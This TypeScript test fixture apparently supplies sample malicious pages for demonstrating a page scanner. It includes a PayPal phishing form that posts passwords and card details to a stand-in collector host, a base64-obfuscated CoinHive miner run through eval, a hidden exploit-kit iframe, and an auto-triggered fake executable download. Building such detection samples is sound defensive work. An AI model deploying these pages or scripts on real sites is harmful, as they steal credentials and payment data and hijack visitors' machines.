/** Malicious pages, for the demo of the `page` scanner. All names in them are reserved for tests. */
import { createServer, type ServerResponse } from 'node:http';
import type { Zone } from './dns-server.ts';
import { listen } from './listen.ts';

export interface RiskySite {
  /** `what` completes “risk of …” */
  pages: readonly { url: string; what: string }[];
  close(): Promise<void>;
}

const LOG_IN = 'paypa1-account-verify.test';
const PLAYER = 'free-hd-player-update.test';

export const riskyZone = (address = '127.0.0.1'): Zone => ({
  [LOG_IN]: { A: [address] },
  [PLAYER]: { A: [address] },
});

/** A phishing page, whose form sends the password to another host. */
const LOG_IN_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>PayPal: verify your account</title>
<script>document.addEventListener('contextmenu', function (event) { event.preventDefault() })</script>
</head><body>
<h1>Your PayPal account has been limited</h1>
<p>Confirm your identity within 24 hours, or your account will be suspended.</p>
<form method="post" action="http://collect.parcel-desk.test/drop.php">
<input name="email" type="email" placeholder="Email">
<input name="pass" type="password" placeholder="Password">
<input name="card" autocomplete="cc-number" placeholder="Card number">
<input name="cvv" autocomplete="cc-csc" placeholder="CVV">
<button>Unlock my account</button>
</form>
<a href="#">Help</a> <a href="#">Contact</a> <a href="#">Security</a>
</body></html>`;

/** A crypto miner, which the page decodes and runs. */
const MINER = `var miner=new CoinHive.Anonymous('DEMO-SITE-KEY',{throttle:0.2});miner.start();
var pool=new WebSocket('wss://pool.demo-mining.test:443');pool.onopen=function(){pool.send(JSON.stringify({method:'mining.subscribe',algo:'cryptonight'}))};`;

const PLAYER_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Player update needed</title></head><body>
<h1>Your player is out of date</h1>
<p>The download of HD-Player-Update.exe starts by itself.</p>
<iframe src="http://landing.demo-kit.test/gate" width="1" height="1" style="visibility:hidden"></iframe>
<script>eval(atob('${Buffer.from(MINER).toString('base64')}'))</script>
<script>var a=document.createElement('a');a.href='data:application/octet-stream;base64,TVqQAAMAAAAEAAAA';
a.download='HD-Player-Update.exe';document.body.appendChild(a);a.click();</script>
</body></html>`;

const answerWith = (body: string) => (_: unknown, response: ServerResponse) =>
  void response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);

export const answerWithPhishing = answerWith(LOG_IN_PAGE);
export const answerWithMiner = answerWith(PLAYER_PAGE);

export async function startRiskySite(): Promise<RiskySite> {
  const server = createServer((request, response) => {
    const [name] = (request.headers.host ?? '').split(':');
    (name === LOG_IN ? answerWithPhishing : answerWithMiner)(request, response);
  });
  const { port, close } = await listen(server, '127.0.0.1', 0);
  const pages = [
    { url: `http://${LOG_IN}:${port}/signin`, what: 'a phishing page' },
    { url: `http://${PLAYER}:${port}/watch`, what: 'a page with a crypto miner' },
  ];
  return { pages, close };
}
